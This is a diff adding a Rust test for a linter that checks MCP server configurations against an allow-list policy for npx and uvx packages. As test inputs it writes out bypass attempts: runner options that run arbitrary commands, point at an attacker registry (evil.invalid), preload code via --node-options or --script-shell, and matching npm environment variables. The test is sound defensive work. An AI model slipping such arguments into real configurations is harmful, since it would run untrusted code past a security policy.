@@ -1,0 +1,78 @@
+//! A policy holds against the ways around it that the allowed programs themselves offer.
+
+use serde_json::json;
+
+use crate::support::Folder;
+
+fn violations(args: &[&str], env: &[(&str, &str)]) -> usize {
+    let env: serde_json::Map<_, _> = env
+        .iter()
+        .map(|(name, value)| ((*name).to_owned(), (*value).into()))
+        .collect();
+    let file =
+        json!({ "mcpServers": { "a": { "command": args[0], "args": args[1..], "env": env } } });
+    let policy = "[policy]\ncommands = [\"npx\", \"uvx\"]\npackages = [\"@acme/*\", \"acme-*\"]\n";
+    let folder = Folder::new(&[(".mcp.json", &file.to_string()), ("mcpconv.toml", policy)]);
+    let ran = folder.lint(&["--format", "concise"]);
+    ran.stdout.matches("error[policy-violation]").count()
+}
+
+#[test]
+fn options_of_a_runner_do_not_get_around_the_policy() {
+    for args in [
+        &["npx", "-c", "evil"][..],
+        &["npx", "-y", "-p", "@acme/x@1.0.0", "--call", "evil"],
+        &[
+            "npx",
+            "--registry=https://evil.invalid",
+            "-y",
+            "@acme/x@1.0.0",
+        ],
+        &[
+            "npx",
+            "--registry",
+            "https://evil.invalid",
+            "-y",
+            "@acme/x@1.0.0",
+        ],
+        &[
+            "npx",
+            "--node-options=--require=/tmp/x",
+            "-y",
+            "@acme/x@1.0.0",
+        ],
+        &["npx", "--script-shell=/tmp/x", "-y", "@acme/x@1.0.0"],
+        &[
+            "uvx",
+            "--index-url",
+            "https://evil.invalid",
+            "acme-x==1.0.0",
+        ],
+        &[
+            "uvx",
+            "--default-index=https://evil.invalid",
+            "acme-x==1.0.0",
+        ],
+    ] {
+        assert!(violations(args, &[]) > 0, "{args:?}");
+    }
+    let plain = ["npx", "-y", "@acme/x@1.0.0"];
+    assert!(violations(&plain, &[("npm_config_registry", "https://evil.invalid")]) > 0);
+    assert!(violations(&plain, &[("NPM_CONFIG_SCRIPT_SHELL", "/tmp/x")]) > 0);
+    // The same words after the package are the server's own.
+    for args in [
+        &plain[..],
+        &[
+            "npx",
+            "-y",
+            "@acme/x@1.0.0",
+            "-c",
+            "conf.json",
+            "--registry=x",
+        ],
+        &["npx", "-y", "-p", "@acme/x@1.0.0", "x"],
+        &["uvx", "acme-x==1.0.0", "--index", "a"],
+    ] {
+        assert_eq!(violations(args, &[("MODE", "x")]), 0, "{args:?}");
+    }
+}
